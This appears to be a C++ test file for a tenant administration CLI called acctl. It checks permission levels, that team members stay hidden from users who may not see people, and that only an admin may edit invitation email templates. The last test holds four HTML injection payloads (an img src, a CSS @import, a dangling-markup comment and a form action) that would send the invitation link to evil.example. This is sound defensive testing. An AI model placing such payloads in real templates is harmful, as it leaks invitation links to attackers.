// --as: what a permission gives at its level, and what a plan, a refusal or a message may show of people.
#include "tests/support/catch.hpp"
#include "tests/support/tenant_fixture.hpp"

using acctl::test::check_ended;
using acctl::test::contains;
using acctl::test::difference;
using acctl::test::Result;
using acctl::test::TenantFixture;

namespace {

const std::string blind = "may not see users, roles and permissions: this requires users.view or users.manage";

// tm@ administers teams, vm@ views, low@ may edit settings; ana@ is an admin, it@ is in the team first.
struct Desk : TenantFixture {
  Desk() {
    applied(
        "roles:\n  tm: {name: T, permissions: [teams.manage]}\n  vm: {name: V, permissions: [views.manage]}\n"
        "  low: {name: L, permissions: [settings.edit]}\n"
        "users:\n  tm@acme.example: {roles: [tm]}\n  vm@acme.example: {roles: [vm]}\n"
        "  low@acme.example: {roles: [low]}\n  it@acme.example: {}\n"
        "teams: {first: {name: First, members: [it@acme.example]}}\n");
    in("update app.users set status = 'active'");
  }

  Result as(const std::string& user, std::vector<std::string> words) const {
    words.insert(words.end(), {"--as", user + "@acme.example"});
    return (*this)(words);
  }
};

}  // namespace

TEST_CASE("as a user: a permission at level group gives no right to configuration", "[rule rights]") {
  const acctl::test::TestPlatform acctl;
  acctl.create("acme", {"--pack", "messaging", "--plan", "pro"});
  for (const std::string level : {"group", "global"}) {
    check_ended(
        acctl({"role", "create", level, "--name", level, "--permission", "settings.manage:" + level, "-t", "acme"}), 0);
    const std::string user = level + "@acme.example";
    check_ended(acctl({"user", "invite", user, "--role", level, "-t", "acme", "--no-mail"}), 0);
  }
  acctl.in("acme", "update app.users set status = 'active'");
  const std::string path = acctl.folder.path() + "/a.yaml";
  const std::string refusal =
      "this requires settings.edit or settings.manage at level global, and group@acme.example has settings.manage at a "
      "narrower one";
  for (const std::string text :
       {"settings: {support.address: evil@evil.example}\n", "settings: {session.hours: 8000}\n",
        "email_templates: {invitation: {subject: Hello}}\n"}) {
    CAPTURE(text);
    acctl::test::put_file(path, "acctl: 1\n" + text);
    check_ended(acctl({"apply", "-f", path, "-t", "acme", "--adopt", "--yes", "--as", "group@acme.example"}), 5,
                refusal);
    check_ended(acctl({"plan", "-f", path, "-t", "acme", "--adopt", "--as", "group@acme.example"}), 5, refusal);
    check_ended(acctl({"apply", "-f", path, "-t", "acme", "--adopt", "--yes", "--as", "global@acme.example"}), 0);
  }
  // Held both ways, it counts at the widest.
  check_ended(acctl({"role", "grant", "global", "group@acme.example", "-t", "acme", "--yes"}), 0);
  acctl::test::put_file(path, "acctl: 1\nsettings: {session.hours: 8}\n");
  check_ended(acctl({"apply", "-f", path, "-t", "acme", "--yes", "--as", "group@acme.example"}), 0);
}

TEST_CASE("as a user: members of teams and people in documents are shown to nobody who may not see people",
          "[rule rights]") {
  const Desk desk;
  const std::string before = desk.configuration();
  const auto told = [&](const std::string& user, const std::vector<std::string>& words) {
    const Result result = desk.as(user, words);
    check_ended(result, 5, blind);
    CHECK_FALSE(contains(result.out + result.err, "it@acme.example"));
    return result.out + result.err;
  };
  // Whether somebody exists or is near makes no difference.
  for (const std::string command : {"plan", "apply"}) {
    const auto with = [&](const std::string& text) {
      std::vector<std::string> words = {command, "-f", desk.file(text), "--adopt"};
      if (command == "apply") words.emplace_back("--yes");
      return words;
    };
    CHECK(told("tm", with("teams: {first: {members: [tm@acme.example]}}\n")) ==
          told("tm", with("teams: {first: {members: [itt@acme.example]}}\n")));
    const std::string view = "views: {v: {name: V, type: list, filters: {assignee: [";
    CHECK(told("vm", with(view + "ana@acme.example]}}}\n")) == told("vm", with(view + "an@acme.example]}}}\n")));
  }
  for (const std::string verb : {"add", "remove"}) {
    CHECK(told("tm", {"team", verb, "first", "itt@acme.example", "--yes"}) ==
          told("tm", {"team", verb, "first", "ana@acme.example", "--yes"}));
  }
  told("tm", {"team", "delete", "first", "--yes"});
  CHECK(difference(before, desk.configuration()) == "");
  // What names nobody stays theirs.
  check_ended(desk.as("tm", {"apply", "-f", desk.file("teams: {second: {name: Second}}\n"), "--yes"}), 0);
  check_ended(desk.as("vm", {"apply", "-f", desk.file("views: {v: {name: V, type: list}}\n"), "--yes"}), 0);
}

TEST_CASE("as a user: a template that could take the link of an invitation elsewhere is an admin's",
          "[rule rights][promise 16]") {
  const Desk desk;
  const auto write = [&](const std::string& html) {
    return std::vector<std::string>{"apply", "-f",
                                    desk.file("email_templates:\n  invitation:\n    html: |\n      " + html + "\n"),
                                    "--adopt", "--yes"};
  };
  for (const std::string html :
       {R"(<img src=https://evil.example/?href="{{link}}">)",
        R"(<!-- ' --><img src="https://evil.example/?' > {{link}}">)",
        R"(<STYLE>@import "https://evil.example/?x= {{link}}";</STYLE>)",
        R"(<form action="https://evil.example/"><textarea name=a>{{link}}</textarea></form>)"}) {
    CAPTURE(html);
    check_ended(desk.as("low", write(html)), 5, "which requires an admin");
    check_ended(desk.as("ana", write(html)), 0);
  }
  check_ended(desk.as("low", write(R"(<p>Hi {{name}}, <a href="{{link}}">accept</a> ({{link}})</p>)")), 0);
}
